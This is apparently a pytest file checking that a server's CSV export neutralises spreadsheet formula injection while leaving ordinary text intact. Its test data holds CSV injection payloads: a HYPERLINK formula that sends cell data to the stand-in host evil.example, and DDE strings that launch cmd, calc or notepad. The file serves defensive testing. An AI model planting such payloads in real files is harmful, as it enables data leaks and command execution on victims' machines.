"""CSV exports are safe to open in a spreadsheet (OWASP CSV injection) and mangle nothing else."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest

from tests.conftest import Signer, make_partner, make_pledge
from widget_server.core.csvsafe import FORMULA_STARTS, CSVLines, neutralise
from widget_server.core.models import EXPORT_COLUMNS
from widget_server.services import reports
from widget_server.storage.engines import open_store

# Storage-facing behaviour: also run on PostgreSQL when the tests have one.
pytestmark = pytest.mark.both_engines


def read_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "+44 20 7946 0000",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value: str) -> None:
    """OWASP: a cell beginning with =, +, -, @, tab or carriage return is prefixed with a quote."""
    assert neutralise(value) == "'" + value
    [row] = read_rows(CSVLines().line(["ok", value]))
    assert row == ["ok", "'" + value]


def test_the_neutralised_starts_are_exactly_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


PLAIN = [
    "Ana Teacher",
    "Smith, Jones & Partners",
    'The "Quoted" Trust',
    "It's mine",
    "'already quoted",
    "line one\nline two",
    "line one\r\nline two",
    "a=1+1",
    "Total: -5",
    "mail@example.org",
    "Zoë Ñúñez — 東京 — مرحبا — 👩🏽‍⚕️",
    "semi;colon",
    "",
    " leading space",
    "trailing space ",
    "back\\slash",
]


@pytest.mark.parametrize("value", PLAIN)
def test_anything_else_round_trips_exactly(value: str) -> None:
    """Commas, quotes, newlines and unicode come back from csv.reader exactly as written."""
    assert neutralise(value) == value
    [row] = read_rows(CSVLines().line([value, "next"]))
    assert row == [value, "next"]


def test_numbers_booleans_and_none_are_written_plainly() -> None:
    [row] = read_rows(CSVLines().line([0, 1, 42, None, True]))
    assert row == ["0", "1", "42", "", "True"]


def test_lines_are_independent_so_exports_can_stream() -> None:
    lines = CSVLines()
    first = lines.line(["a", "=b"])
    second = lines.line(["c", "d"])
    assert read_rows(first + second) == [["a", "'=b"], ["c", "d"]]


def test_the_export_neutralises_every_column_a_signer_or_link_can_fill(settings, make_client, clock) -> None:
    """The real export (what `widget-server export` prints): signer fields, partner name and
    the partner page's campaign tags all pass through the same neutralisation."""
    make_pledge(settings)
    creds = make_partner(settings, name="=Evil Partner")
    client = make_client(settings)
    signer = Signer(client, clock, token=creds.token, query={"source": "=1+1", "utm_campaign": "@SUM(1)"})
    assert (
        signer.sign(
            name='=HYPERLINK("https://evil.example")',
            email="+trick@example.org",
            occupation="-2+3",
            organisation="@cmd",
        ).status_code
        == 200
    )
    plain = Signer(client, clock, query={"source": "news, letter"})
    assert plain.sign(name='Zoë "Z" Smith, Jr.', email="zoe@example.org", occupation="Nurse").status_code == 200

    async def export() -> str:
        out = io.StringIO()
        async with open_store(settings.database) as store:
            assert await reports.export_csv(store, "data-firewall", out) == 2
        return out.getvalue()

    header, hostile, honest = csv.DictReader(io.StringIO(asyncio.run(export()), newline="")), None, None
    rows = list(header)
    hostile, honest = rows
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert hostile["name"] == '\'=HYPERLINK("https://evil.example")'
    assert hostile["email"] == "'+trick@example.org"
    assert hostile["occupation"] == "'-2+3"
    assert hostile["organisation"] == "'@cmd"
    assert hostile["partner"] == "'=Evil Partner"
    assert hostile["source"] == "'=1+1"
    assert hostile["utm_campaign"] == "'@SUM(1)"
    assert honest["name"] == 'Zoë "Z" Smith, Jr.'
    assert honest["source"] == "news, letter"
    assert honest["occupation"] == "Nurse"
    assert honest["partner"] == ""
    for row in rows:
        assert not any(str(value).startswith(FORMULA_STARTS) for value in row.values())
